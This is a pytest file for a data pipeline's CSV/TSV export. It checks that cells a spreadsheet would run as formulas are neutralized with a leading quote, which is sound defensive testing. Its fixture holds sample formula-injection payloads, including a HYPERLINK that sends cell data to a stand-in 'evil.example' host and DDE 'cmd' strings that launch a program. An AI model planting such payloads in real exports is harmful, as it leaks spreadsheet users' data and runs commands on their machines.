"""`export --format csv|tsv` neutralizes cells a spreadsheet would run as formulas (issue 16, 5).

OWASP's rule: a string cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading ``'``. On by default, off with ``--no-neutralize-formulas``; Parquet is
written unchanged; numbers are not strings and are never touched.
"""

from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pytest

from pipeline.cli import EXIT_OK, main
from pipeline.export import FORMULA_TRIGGERS, flatten_lists, neutralize_formulas

#: Model output that a spreadsheet runs, one response per trigger character, and safe text.
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "safe": "Paris [1] = the capital",
}
ROWS = [
    {"id": key, "model": "m", "question": "Capital of France?", "reference": "Paris",
     "response": response, "contexts": ["Paris is the capital."]}
    for key, response in HOSTILE.items()
] + [
    {"id": "-q", "model": "@m", "question": "=1+1", "reference": "+Paris", "response": "Paris"},
]
NEUTRALIZED = {key: ("'" + text if key != "safe" else text) for key, text in HOSTILE.items()}


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    source = root / "in.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in ROWS), encoding="utf-8")
    out = root / "out"
    assert main(["evaluate", "--input", str(source), "--out", str(out), "--no-progress",
                 "--embedding-backend", "hashed", "--no-stats"]) == EXIT_OK
    return out


def read_text_export(path: Path, fmt: str) -> pl.DataFrame:
    return pl.read_csv(path, separator="\t" if fmt == "tsv" else ",", infer_schema=False)


def by_id(table: pl.DataFrame, column: str) -> dict[str, str]:
    return dict(zip(table["id"], table[column], strict=True))


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_each_trigger_gets_a_quote_by_default(run_dir: Path, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"x.{fmt}"
    assert main(["export", str(run_dir), "--format", fmt, "--out", str(target)]) == EXIT_OK
    table = read_text_export(target, fmt)
    responses = by_id(table, "response")
    assert {key: responses[key] for key in HOSTILE} == NEUTRALIZED
    row = table.filter(pl.col("id") == "'-q").row(0, named=True)  # keys are cells too
    assert (row["model"], row["question"], row["reference"], row["response"]) == (
        "'@m", "'=1+1", "'+Paris", "Paris")


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_flag_off_writes_cells_unchanged(run_dir: Path, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"x.{fmt}"
    assert main(["export", str(run_dir), "--format", fmt, "--out", str(target),
                 "--no-neutralize-formulas"]) == EXIT_OK
    table = read_text_export(target, fmt)
    assert {key: by_id(table, "response")[key] for key in HOSTILE} == HOSTILE
    assert by_id(table, "question")["-q"] == "=1+1"


def test_only_string_cells_change_against_an_oracle(run_dir: Path, tmp_path: Path) -> None:
    """Neutralized export == unneutralized export with ``'`` before trigger cells of string
    columns; every other column (scores, counts, flags) is identical."""
    on, off = tmp_path / "on.csv", tmp_path / "off.csv"
    assert main(["export", str(run_dir), "--format", "csv", "--out", str(on)]) == EXIT_OK
    assert main(["export", str(run_dir), "--format", "csv", "--out", str(off),
                 "--no-neutralize-formulas"]) == EXIT_OK
    neutral, raw = read_text_export(on, "csv"), read_text_export(off, "csv")
    strings = {
        name for name, dtype in flatten_lists(pl.read_parquet(run_dir / "scores.parquet")
                                              ).schema.items() if dtype == pl.String
    } | {"question", "reference", "response"}
    assert neutral.columns == raw.columns
    changed = set()
    for column in raw.columns:
        expected = [
            "'" + cell if column in strings and cell is not None and cell.startswith(
                FORMULA_TRIGGERS) else cell
            for cell in raw[column]
        ]
        assert neutral[column].to_list() == expected, column
        if expected != raw[column].to_list():
            changed.add(column)
    # first_unsupported is a sentence of the response, so it starts with the same trigger
    assert changed == {"id", "model", "question", "reference", "response",
                       "first_unsupported"}


def test_parquet_is_untouched(run_dir: Path, tmp_path: Path) -> None:
    target = tmp_path / "x.parquet"
    assert main(["export", str(run_dir), "--format", "parquet", "--out", str(target)]) == EXIT_OK
    table = pl.read_parquet(target)
    assert {key: by_id(table, "response")[key] for key in HOSTILE} == HOSTILE
    texts = pl.read_parquet(run_dir / "texts.parquet")
    assert sorted(table["response"].to_list()) == sorted(texts["response"].to_list())


def test_numbers_are_not_strings_and_lists_are_joined_first(tmp_path: Path) -> None:
    frame = pl.DataFrame({
        "delta": [-1.5, 2.0, None],
        "count": [-3, 0, 1],
        "text": ["-1.5", "a-b", None],
        "tags": [["=cmd", "b"], ["b", "=cmd"], []],
    })
    got = neutralize_formulas(flatten_lists(frame))
    assert got.schema == {"delta": pl.Float64, "count": pl.Int64, "text": pl.String,
                          "tags": pl.String}
    assert got.to_dict(as_series=False) == {
        "delta": [-1.5, 2.0, None],
        "count": [-3, 0, 1],
        "text": ["'-1.5", "a-b", None],
        "tags": ["'=cmd; b", "b; =cmd", ""],
    }
    target = tmp_path / "x.csv"
    got.write_csv(target)
    assert target.read_text(encoding="utf-8").splitlines() == [
        "delta,count,text,tags", "-1.5,-3,'-1.5,'=cmd; b", "2.0,0,a-b,b; =cmd", ",1,,\"\""]


def test_help_documents_the_flag(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["export", "--help"])
    assert exit_info.value.code == 0
    assert "--no-neutralize-formulas" in capsys.readouterr().out
